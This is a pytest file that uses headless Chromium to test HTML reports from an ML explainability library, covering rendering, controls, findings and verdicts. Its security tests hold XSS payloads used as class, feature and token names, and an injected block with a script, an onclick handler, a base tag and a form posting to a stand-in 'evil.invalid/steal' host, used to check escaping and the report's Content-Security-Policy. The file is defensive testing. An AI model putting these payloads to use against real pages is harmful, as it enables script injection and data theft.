"""Real-browser tests: Debian's chromium driven by playwright (installed by `make test`).

On a machine without chromium these skip with a message saying how to install it; under
CI (``CI=true``) a missing browser is a failure, never a skip.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import torch
from torch import nn

import explainer as ex

CHROMIUM = os.environ.get("EXPLAINER_CHROMIUM", "/usr/bin/chromium")
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-dev-shm-usage",
]
HOSTILE = ["<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "plain"]
SCREENSHOTS = Path(__file__).resolve().parents[2] / "reports"

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser():
    if not os.path.exists(CHROMIUM):
        message = "Debian chromium not found at /usr/bin/chromium: install it with `sudo apt-get install chromium` (make test does this as root)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    sync_api = pytest.importorskip(
        "playwright.sync_api", reason="pip install playwright (part of the [dev] extra)"
    )
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        yield b
        b.close()


def open_page(browser, path: Path):
    page = browser.new_page(viewport={"width": 1300, "height": 900})
    events = {"console_errors": [], "dialogs": [], "requests": [], "page_errors": []}
    page.on(
        "console", lambda m: events["console_errors"].append(m.text) if m.type == "error" else None
    )
    page.on("pageerror", lambda e: events["page_errors"].append(str(e)))
    page.on("dialog", lambda d: (events["dialogs"].append(d.message), d.dismiss()))
    page.on("request", lambda r: events["requests"].append(r.url))
    page.goto(path.resolve().as_uri())
    page.wait_for_load_state("load")
    return page, events


@pytest.fixture(scope="module")
def demo_report(tmp_path_factory):
    from explainer.demo.run import run_demo

    path, _ = run_demo(
        out=tmp_path_factory.mktemp("demo") / "demo.html", n_images=8, progress=False
    )
    return path


def test_demo_report_loads_without_errors_and_every_image_decodes(browser, demo_report):
    page, events = open_page(browser, demo_report)
    # every image with a source (the zoom view's <img> gets one only when opened)
    sizes = page.eval_on_selector_all(
        "img[src]", "els => els.map(e => [e.complete, e.naturalWidth])"
    )
    assert len(sizes) >= 8 * 4 and all(done and width > 0 for done, width in sizes), sizes
    assert events["console_errors"] == [] and events["page_errors"] == []
    external = [u for u in events["requests"] if not u.startswith(("data:", "file:"))]
    assert external == []
    SCREENSHOTS.mkdir(exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / "demo-screenshot.png"), full_page=True)
    page.close()


def test_demo_report_controls_enlarge_toggle_and_filter(browser, demo_report):
    page, events = open_page(browser, demo_report)
    grid = "#grid-0"
    overlay = page.locator(f"{grid} img.overlay").first
    overlay_src = overlay.get_attribute("src")
    # enlarge
    overlay.click()
    assert page.locator("#zoom").evaluate("z => z.classList.contains('open')")
    assert page.locator("#zoom img").get_attribute("src") == overlay_src
    page.locator("#zoom").click()
    assert not page.locator("#zoom").evaluate("z => z.classList.contains('open')")
    # toggle overlays -> originals and back
    original_src = (
        page.locator(f"{grid} tr.sample").first.locator("img.original").get_attribute("src")
    )
    page.locator(".controls[data-grid='grid-0'] .toggle-original").check()
    assert overlay.evaluate("i => i.src") == original_src
    page.locator(".controls[data-grid='grid-0'] .toggle-original").uncheck()
    assert overlay.evaluate("i => i.src") == overlay_src
    # filter by class: every visible row has the chosen prediction
    rows = page.locator(f"{grid} tr.sample")
    chosen = rows.first.get_attribute("data-predicted")
    page.locator(".controls[data-grid='grid-0'] .class-filter").select_option(chosen)
    visible = [r for r in rows.all() if r.is_visible()]
    assert visible and all(r.get_attribute("data-predicted") == chosen for r in visible)
    assert len(visible) == sum(r.get_attribute("data-predicted") == chosen for r in rows.all())
    page.locator(".controls[data-grid='grid-0'] .class-filter").select_option("")
    assert all(r.is_visible() for r in rows.all())
    assert events["console_errors"] == [] and events["page_errors"] == []
    page.close()


def test_hostile_class_and_feature_names_show_literally_and_fire_no_dialog(browser, tmp_path):
    torch.manual_seed(0)
    img_model = ex.wrap(
        nn.Sequential(nn.Conv2d(3, 2, 3, padding=1), nn.Flatten(), nn.Linear(2 * 8 * 8, 3)),
        class_names=HOSTILE,
        name=HOSTILE[1],
    )
    tab_model = ex.wrap(nn.Linear(3, 3), class_names=HOSTILE, modality="tabular")
    exps = [
        ex.explain(img_model, torch.rand(2, 3, 8, 8), "saliency", progress=False),
        ex.explain(
            tab_model, torch.randn(4, 3), "gradient_x_input", feature_names=HOSTILE, progress=False
        ),
    ]
    path = ex.report(
        exps, path=tmp_path / "xss.html", title=HOSTILE[0], labels=[[0, 1], [0, 1, 2, 0]]
    )
    page, events = open_page(browser, path)
    page.wait_for_timeout(300)
    assert events["dialogs"] == []
    text = page.inner_text("body")
    for s in HOSTILE[:2]:
        assert s in text  # shown as text, not interpreted
    assert page.title() == HOSTILE[0]
    assert page.locator("img[src='x']").count() == 0
    page.close()


def test_store_report_dataset_section_renders(browser, tmp_path):
    """A report of a result store: dataset section (mean maps per class, per-class trust
    table), balanced sample grid, no errors, every image decodes."""
    from explainer.demo.cnn import CLASS_NAMES, load_demo_cnn
    from explainer.demo.shapes import make_shapes

    model = ex.wrap(load_demo_cnn(), class_names=CLASS_NAMES, modality="image")
    data = make_shapes(16, seed=2)
    store = ex.explain_dataset(
        model, data.images, ["saliency", "gradient_x_input"], tmp_path / "s.zarr",
        labels=data.labels, batch_size=8, progress=False,
    )  # fmt: skip
    ex.evaluate(store, model, metrics=["faithfulness"], sample=8, progress=False)
    path = ex.report(ex.open_store(tmp_path / "s.zarr"), tmp_path / "r.html", max_samples=8)
    page, events = open_page(browser, path)
    assert page.locator("#dataset").is_visible()
    maps = page.locator("#dataset ~ .figs img")
    assert maps.count() == 2 * len(set(store.targets.tolist()))
    sizes = page.eval_on_selector_all(
        "img[src]", "els => els.map(e => [e.complete, e.naturalWidth])"
    )
    assert all(done and width > 0 for done, width in sizes)
    assert page.locator("text=trust scores per class").count() == 2
    assert page.locator("#grid-0 tr.sample").count() == 8
    assert events["console_errors"] == [] and events["page_errors"] == []
    page.close()


# -- Content-Security-Policy: only the report's own script runs ----------------------------
RECORD_CSP_VIOLATIONS = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", e => window.__csp.push(e.effectiveDirective));
"""
INJECTED = (
    '<base href="https://evil.invalid/">'
    "<script>window.__injected = true; document.title = 'pwned';</script>"
    '<button id="evil-button" onclick="window.__handler = true">click</button>'
    '<form id="evil-form" action="https://evil.invalid/steal"><button>send</button></form>'
)


def open_with_csp_log(browser, path: Path):
    page = browser.new_page()
    events = {"console_errors": [], "dialogs": [], "requests": [], "page_errors": []}
    page.on(
        "console", lambda m: events["console_errors"].append(m.text) if m.type == "error" else None
    )
    page.on("pageerror", lambda e: events["page_errors"].append(str(e)))
    page.on("request", lambda r: events["requests"].append(r.url))
    page.add_init_script(RECORD_CSP_VIOLATIONS)  # runs before the page's own CSP applies
    page.goto(path.resolve().as_uri())
    page.wait_for_load_state("load")
    return page, events


def test_report_script_runs_under_its_hash_pinned_csp_without_violations(browser, demo_report):
    page, events = open_with_csp_log(browser, demo_report)
    rows = page.locator("#grid-0 tr.sample").count()
    # only the report's script writes the counter: it ran
    assert (
        page.locator(".controls[data-grid='grid-0'] .count").inner_text()
        == f"{rows} of {rows} shown"
    )
    page.locator("#grid-0 img.overlay").first.click()
    assert page.locator("#zoom").evaluate("z => z.classList.contains('open')")
    assert page.evaluate("window.__csp") == []
    assert events["console_errors"] == [] and events["page_errors"] == []
    page.close()


def test_injected_script_handler_base_and_form_are_blocked_by_csp(browser, demo_report, tmp_path):
    """Markup that got into the file some other way (not through the escaping template)."""
    html = demo_report.read_text(encoding="utf-8")
    tampered = tmp_path / "tampered.html"
    tampered.write_text(html.replace("</body>", INJECTED + "</body>", 1), encoding="utf-8")
    page, events = open_with_csp_log(browser, tampered)
    assert page.evaluate("window.__injected") is None and page.title() != "pwned"
    page.locator("#evil-button").click()
    assert page.evaluate("window.__handler") is None
    assert page.evaluate("document.baseURI").startswith("file:")
    page.locator("#evil-form").evaluate("f => f.requestSubmit()")  # click() awaits navigation
    page.wait_for_timeout(300)
    assert page.url == tampered.resolve().as_uri()
    assert not [u for u in events["requests"] if "evil.invalid" in u]
    violated = set(page.evaluate("window.__csp"))
    assert {"script-src-elem", "script-src-attr", "base-uri", "form-action"} <= violated, violated
    # the report's own script still ran
    rows = page.locator("#grid-0 tr.sample").count()
    assert (
        page.locator(".controls[data-grid='grid-0'] .count").inner_text()
        == f"{rows} of {rows} shown"
    )
    page.close()


class _ImageAndVector(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.conv, self.vec, self.head = (
            nn.Conv2d(3, 4, 3, padding=1),
            nn.Linear(5, 4),
            nn.Linear(8, 3),
        )

    def forward(self, image: torch.Tensor, vector: torch.Tensor) -> torch.Tensor:
        h = torch.relu(self.conv(image)).mean((2, 3))
        return self.head(torch.cat([h, torch.tanh(self.vec(vector))], 1))


def test_a_two_input_report_draws_the_image_as_a_heatmap_and_the_vector_as_bars(browser, tmp_path):
    model = ex.wrap(_ImageAndVector(), name="two inputs")
    x = (torch.rand(3, 3, 16, 16), torch.randn(3, 5))
    exps = ex.explain_many(model, x, ["saliency", "integrated_gradients"], progress=False,
                           feature_names=(None, ["age", "bmi", "bp", "s1", HOSTILE[0]]))  # fmt: skip
    path = ex.report(exps, path=tmp_path / "two.html")
    page, events = open_page(browser, path)
    titles = page.eval_on_selector_all("h2", "els => els.map(e => e.textContent)")
    assert any("input 0 (image)" in t for t in titles), titles
    assert any("input 1 (tabular)" in t for t in titles), titles
    # every image decodes: 3 samples x (input + 2 methods) heatmaps at least
    sizes = page.eval_on_selector_all(
        "img[src]", "els => els.map(e => [e.complete, e.naturalWidth])"
    )
    assert len(sizes) >= 3 * 3 and all(done and width > 0 for done, width in sizes)
    # the vector's bars name its columns, the hostile one literally
    text = page.inner_text("body")
    assert "bmi" in text and HOSTILE[0] in text
    assert (
        events["console_errors"] == [] and events["page_errors"] == [] and events["dialogs"] == []
    )
    page.close()


class _Words:
    """A word tokenizer whose vocabulary holds markup: tokens are user text."""

    def __init__(self, words: list[str]) -> None:
        self.words = ["[PAD]", *words]

    def encode(self, text: str) -> list[int]:
        return [self.words.index(w) for w in text.split("|")]  # markup holds spaces

    def decode(self, ids: list[int]) -> str:
        return " ".join(self.words[i] for i in ids)


def test_token_heatmaps_show_markup_tokens_literally_and_wrap_long_texts(browser, tmp_path):
    words = [*HOSTILE, "the", "movie"]
    net = nn.Sequential(nn.Embedding(len(words) + 1, 4), nn.Flatten(), nn.LazyLinear(2))
    texts = ["|".join([HOSTILE[0], "the", "movie"] * 12), "|".join([HOSTILE[1], "movie"])]
    model = ex.wrap(net, modality="text", tokenizer=_Words(words), name=HOSTILE[0])
    with torch.no_grad():
        net(torch.zeros(1, 36, dtype=torch.long))  # size the lazy layer for 36 tokens
    exps = ex.explain_many(model, texts, ["gradient_x_input", "integrated_gradients"], target=1,
                           progress=False)  # fmt: skip
    path = ex.report(exps, path=tmp_path / "text.html")
    page, events = open_page(browser, path)
    tokens = page.eval_on_selector_all("span.tok", "els => els.map(e => e.textContent.trim())")
    assert HOSTILE[0] in tokens and HOSTILE[1] in tokens
    assert len(tokens) == 2 * (36 + 2)  # two methods, padding not drawn
    assert page.eval_on_selector_all("script", "els => els.length") == 1  # only the report's
    width = page.eval_on_selector("table.text", "t => t.getBoundingClientRect().width")
    assert width <= 1300  # a long text wraps inside the page
    assert events["dialogs"] == [] and events["page_errors"] == []
    page.close()


def test_demo_report_findings_come_first_with_each_preview_decoded(browser, demo_report):
    page, events = open_page(browser, demo_report)
    headings = page.eval_on_selector_all("h2", "els => els.map(e => e.id)")
    assert headings[0] == "findings"
    items = page.locator(".explainer-findings li")
    assert items.count() >= 5  # the 4 watermarks and the shortcut word
    previews = page.eval_on_selector_all(
        ".explainer-findings img", "els => els.map(e => [e.complete, e.naturalWidth])"
    )
    assert len(previews) == 4 and all(done and width > 0 for done, width in previews)
    text = page.inner_text("#findings ~ div.explainer-findings >> nth=1")
    assert "the token 'indeed'" in text
    assert events["console_errors"] == [] and events["page_errors"] == []
    page.close()


def test_findings_with_hostile_names_show_literally_and_fire_no_dialog(browser, tmp_path):
    torch.manual_seed(0)
    x = torch.randn(40, 3)
    x[:, 2] = (x[:, 0] > 0).float()  # column 2 copies the class: a leak
    net = nn.Linear(3, 2)
    with torch.no_grad():
        net.weight.copy_(torch.tensor([[0.0, 0.0, -4.0], [0.0, 0.0, 4.0]]))
        net.bias.copy_(torch.tensor([2.0, -2.0]))
    model = ex.wrap(net, modality="tabular", class_names=HOSTILE[:2])
    names = [HOSTILE[2], HOSTILE[0], HOSTILE[1]]  # the leaked column has the script name
    labels = (x[:, 0] > 0).long()
    exp = ex.explain(
        model, x, "gradient_x_input", target=labels, feature_names=names, progress=False
    )
    found = ex.findings(exp, model)
    assert len(found) == 1
    path = ex.report(exp, path=tmp_path / "found.html", findings={HOSTILE[0]: found})
    page, events = open_page(browser, path)
    page.wait_for_timeout(300)
    assert events["dialogs"] == [] and events["page_errors"] == []
    section = page.inner_text(".explainer-findings")
    assert HOSTILE[1] in section and HOSTILE[0] in page.inner_text("h3 >> nth=0")
    assert page.locator("img[src='x']").count() == 0
    external = [u for u in events["requests"] if not u.startswith(("data:", "file:"))]
    assert external == []
    page.close()


def test_demo_verdicts_follow_the_numbers_they_show(browser, demo_report):
    """Each verdict's state is what its 95% intervals say against its thresholds, and the
    sentence shows each estimate it rests on (issue 19: never contradict the numbers)."""
    page, _ = open_page(browser, demo_report)
    verdicts = page.eval_on_selector_all(
        "ul.verdicts li",
        "els => els.map(e => [e.className, e.dataset.evidence, e.innerText])",
    )
    assert len(verdicts) >= 10
    states = set()
    for state, evidence, text in verdicts:
        states.add(state)
        for e in json.loads(evidence):
            if e["n"] < 2:
                continue
            good = e["low"] > e["threshold"] if e["higher"] else e["high"] < e["threshold"]
            bad = e["high"] < e["threshold"] if e["higher"] else e["low"] > e["threshold"]
            assert e["state"] == ("pass" if good else "fail" if bad else "inconclusive"), e
            shown_as = {
                f"{e['estimate']:{f}}" for f in ("+.3f", ".3f", ".2f", ".0%", ".2%", "+.2f")
            }
            assert any(s in text for s in shown_as), (e, text)
        shown = [e["state"] for e in json.loads(evidence)]
        if state == "pass":
            assert shown and all(s == "pass" for s in shown), (text, shown)
        if state == "fail":
            assert "fail" in shown, (text, shown)
        if state == "inconclusive":
            assert "inconclusive" in shown and "fail" not in shown, (text, shown)
            assert "sample" in text  # it says how many samples would settle it
    assert states <= {"pass", "fail", "inconclusive", "info"}
    page.close()
